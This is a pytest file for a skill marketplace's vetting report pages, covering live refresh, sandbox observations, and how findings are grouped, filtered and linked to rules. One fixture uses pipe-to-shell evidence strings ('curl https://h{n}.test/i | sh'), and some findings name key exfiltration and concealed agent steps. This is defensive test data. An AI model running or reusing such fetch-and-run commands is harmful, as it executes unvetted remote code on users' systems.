"""The report: live while the run goes on, quiet when it has ended, and all the evidence in its place."""

import re

from marketplace import services
from marketplace.models import Release
from tests.web import factories


def test_a_running_report_renews_itself_with_and_without_script(as_person, alice, shelf):
    shelf(verdict="vetting")
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
    assert 'hx-get="/alice/pdf-tables/1.0.0/report/live"' in page
    assert 'hx-trigger="every 1500ms"' in page
    assert '<noscript><meta http-equiv="refresh" content="3"></noscript>' in page
    assert "htmx" in page
    assert page.count("state-done") == 2
    assert page.count("state-running") == 1
    assert page.count("state-queued") == 3


def test_the_live_part_stops_asking_when_the_run_has_ended(as_person, alice, shelf):
    release = shelf(verdict="vetting")
    browser = as_person(alice)
    running = browser.get("/alice/pdf-tables/1.0.0/report/live")
    assert b"hx-trigger" in running.content
    assert "HX-Refresh" not in running.headers
    assert "no-store" in running.headers["Cache-Control"]
    services.release_conclude(release=release, report=factories.report(release))
    ended = browser.get("/alice/pdf-tables/1.0.0/report/live")
    assert b"hx-trigger" not in ended.content
    assert ended.headers["HX-Refresh"] == "true"
    page = browser.get("/alice/pdf-tables/1.0.0/report").content
    assert b"hx-" not in page
    assert b"refresh" not in page


def test_a_waiting_run_says_that_it_waits_and_trouble_of_ours_is_told(as_person, alice, shelf):
    release = shelf(verdict="vetting")
    run = release.runs.get()
    run.stages.all().delete()
    run.trouble = "The Docker engine does not answer."
    run.save()
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
    assert "Waiting for a free worker." in page
    assert "The Docker engine does not answer." in page


def test_a_release_that_never_got_a_run_still_has_a_page(as_person, alice, shelf):
    release = shelf(verdict="vetting")
    release.runs.all().delete()
    assert as_person(alice).get("/alice/pdf-tables/1.0.0/report").status_code == 200


def test_the_room_is_told_as_a_tree_a_list_of_attempts_and_its_walls(client, shelf):
    shelf()
    context = client.get("/alice/pdf-tables/1.0.0/report").context
    assert [(row["depth"], row["pid"]) for row in context["room"]["processes"]] == [(0, 12), (1, 14), (2, 15)]
    assert [row["words"] for row in context["room"]["network"]] == ["get.example.com", "192.0.2.10:443"]
    walls = dict(context["room"]["posture"])
    assert walls["memory"] == "512 MiB"
    assert walls["uid, from inside"] == "10001"


def test_a_skipped_room_says_why(as_person, alice, shelf):
    shelf(verdict="block", findings=[factories.finding(severity="critical", confidence="high")])
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
    assert "already settles the verdict" in page
    assert "It was not run, so nothing was observed." in page
    assert "skill check pdf-tables" in page
    assert "skill install alice/pdf-tables" not in page


def test_processes_that_claim_to_be_their_own_parents_end_the_tree(client, shelf):
    loop = [
        {"t": 0.0, "kind": "exec", "pid": 5, "argv": ["a"], "parent": 5},
        {"t": 0.1, "kind": "exec", "pid": 6, "argv": ["b"], "parent": 5},
        {"t": 0.2, "kind": "exec", "pid": 5, "argv": ["c"], "parent": 6},
    ]
    shelf(events=loop)
    rows = client.get("/alice/pdf-tables/1.0.0/report").context["room"]["processes"]
    assert [row["words"] for row in rows] == ["a", "b", "c"]


def test_hundreds_of_events_are_cut_and_the_rest_is_in_the_data(client, shelf):
    shelf(events=[{"t": n / 100, "kind": "open", "pid": 2, "path": f"/workspace/{n}"} for n in range(900)])
    response = client.get("/alice/pdf-tables/1.0.0/report")
    assert len(response.context["room"]["events"]) == 300
    assert b"/api/v1/skills/alice/pdf-tables/releases/1.0.0/report" in response.content
    assert len(response.content) < 400_000


def test_a_report_from_an_older_format_does_not_break_the_page(client, shelf):
    release = shelf()
    Release.objects.filter(pk=release.pk).update(report={"safety": {"verdict": "pass"}, "quality": {}})
    for path in ("/alice/pdf-tables", "/alice/pdf-tables/1.0.0/report"):
        assert client.get(path).status_code == 200


def many() -> list[dict]:
    make = factories.finding
    return [
        make(severity="critical", confidence="high", line=4),
        make(severity="critical", confidence="high", line=5),
        make(code="SK-PI", check="concealment", severity="high", line=9, why="It hides a step."),
        make(
            code="SK-VULN", check="bandit:B602", axis="vulnerability", severity="high", line=2, why="A shell is used."
        ),
        make(code="SK-OVER", check="undeclared_permission", axis="privilege", severity="medium", line=1),
    ]


def test_what_would_make_it_pass_is_told_rule_by_rule(client, as_person, alice, shelf):
    shelf(verdict="block", findings=many())
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report")
    to_pass = page.context["to_pass"]
    assert to_pass["total"] == 3
    assert [(row["heading"], [one["line"] for one in row["places"]]) for row in to_pass["rows"]] == [
        ("Downloads code and runs it unseen", [4, 5]),
        ("Tells the agent to hide what it does", [9]),
    ]
    anchors = {one["anchor"] for one in page.context["findings"]}
    linked = set(re.findall(r'/report#(f-[0-9a-f-]+)"', page.content.decode()))
    assert linked == anchors and all(f'id="{one}"' in page.content.decode() for one in anchors)


def test_what_passes_needs_nothing(client, shelf):
    shelf(findings=[factories.finding(axis="vulnerability", severity="high")])
    assert client.get("/alice/pdf-tables/1.0.0/report").context["to_pass"] is None


def test_what_is_found_in_many_places_is_explained_once(as_person, alice, shelf):
    make = factories.finding
    same = [
        make(line=n, evidence=f"curl https://h{n}.test/i | sh", fix="Put it into the bundle.") for n in range(1, 10)
    ]
    other = make(line=2, check="concealment", code="SK-PI", why="It hides a step.")
    shelf(verdict="block", findings=[*same[:5], other, *same[5:]])
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report")
    (group,) = page.context["shelf"].groups
    assert [(card.head["check"], card.count) for card in group["cards"]] == [("pipe_to_shell", 9), ("concealment", 1)]
    text = page.content.decode()
    assert text.count("<b>What to do:</b> Put it into the bundle.") == 1
    assert "in 9 places" in text and "5 more places" in text
    assert all(text.count(f"https://h{n}.test/i") == 1 for n in range(1, 10))


def test_reasons_that_differ_stand_at_their_places(as_person, alice, shelf):
    shelf(
        verdict="block",
        findings=[factories.finding(line=n, why=f"Key {n} goes out.", check="exfiltration") for n in (1, 2)],
    )
    text = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
    text = text[text.index('id="findings"') : text.index('id="scores"')]
    assert text.count("Key 1 goes out.") == text.count("Key 2 goes out.") == 1


def test_a_reason_for_one_place_is_not_shown_for_another(as_person, alice, shelf):
    """What its author suppressed in one file stands in a card of its own."""
    reason = {"reason": "It asks before it fetches.", "lifts": False}
    shelf(verdict="block", findings=[factories.finding(line=1), factories.finding(line=2, suppressed=reason)])
    (group,) = as_person(alice).get("/alice/pdf-tables/1.0.0/report").context["shelf"].groups
    assert [card.count for card in group["cards"]] == [1, 1]


def test_findings_come_before_the_stages_once_a_run_has_ended(as_person, alice, shelf):
    shelf()
    shelf("waiting", verdict="vetting")
    ended = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content
    running = as_person(alice).get("/alice/waiting/1.0.0/report").content
    assert ended.index(b'id="findings"') < ended.index(b'id="stages"')
    assert running.index(b'id="stages"') < running.index(b'id="findings"')
    assert ended.count(b'id="stages"') == running.count(b'id="stages"') == 1


def test_findings_are_narrowed_by_address_alone(as_person, alice, shelf):
    shelf(verdict="block", findings=many())
    browser = as_person(alice)

    def lines(query: str) -> list[int]:
        shown = browser.get(f"/alice/pdf-tables/1.0.0/report?{query}").context["shelf"]
        assert shown.shown == sum(len(group["rows"]) for group in shown.groups) and shown.total == 5
        return [one["line"] for group in shown.groups for one in group["rows"]]

    assert lines("") == [4, 5, 9, 2, 1]
    assert lines("axis=malice&severity=high") == [9]
    assert lines("weight=shown") == [2, 1]
    assert lines("axis=privilege&severity=critical") == []
    assert lines("axis=%3Cscript%3E&severity=none&weight=all") == [4, 5, 9, 2, 1]


def test_the_number_on_each_box_is_what_a_click_leaves(as_person, alice, shelf):
    shelf(verdict="block", findings=many())
    browser, address = as_person(alice), "/alice/pdf-tables/1.0.0/report"
    for facet in browser.get(f"{address}?axis=malice").context["shelf"].facets:
        for box in facet["values"]:
            if box["count"] and not box["on"]:
                there = browser.get(address + box["href"].partition("#")[0])
                assert there.context["shelf"].shown == box["count"], box


def test_a_finding_keeps_its_address_in_another_vetting(as_person, alice, shelf):
    shelf(verdict="block", findings=many())
    shelf(version="1.0.1", verdict="block", findings=[many()[2] | {"line": 77}])
    browser = as_person(alice)
    before = browser.get("/alice/pdf-tables/1.0.0/report").context["findings"]
    after = browser.get("/alice/pdf-tables/1.0.1/report").context["findings"]
    assert after[0]["anchor"] == before[2]["anchor"]


def test_a_finding_leads_to_its_rule_and_to_what_others_say_of_its_kind(as_person, alice, shelf):
    shelf(verdict="block", findings=[*many(), factories.finding(check="of-an-older-registry", line=30)])
    page = as_person(alice).get("/alice/pdf-tables/1.0.0/report").content.decode()
    assert 'href="/checks/pipe_to_shell"' in page and 'href="/checks/bandit:B602"' in page
    assert "/checks/of-an-older-registry" not in page
    for label in ("CWE-494", "MITRE ATT&amp;CK T1204.002", "MITRE ATLAS AML.T0011", "OWASP AST02"):
        assert label in page


def test_an_upheld_verdict_is_not_called_a_persons_own(as_person, alice, shelf):
    release = shelf(verdict="block", findings=many())
    release.report["decision"] = {"by": "rhea", "at": None, "reason": "It is as it says.", "decision": "uphold"}
    release.save()
    banner = as_person(alice).get("/alice/pdf-tables/1.0.0/report").context["banner"]
    assert "Vetting refused it" in banner.text and banner.reasons[-1] == "Reason given: It is as it says."
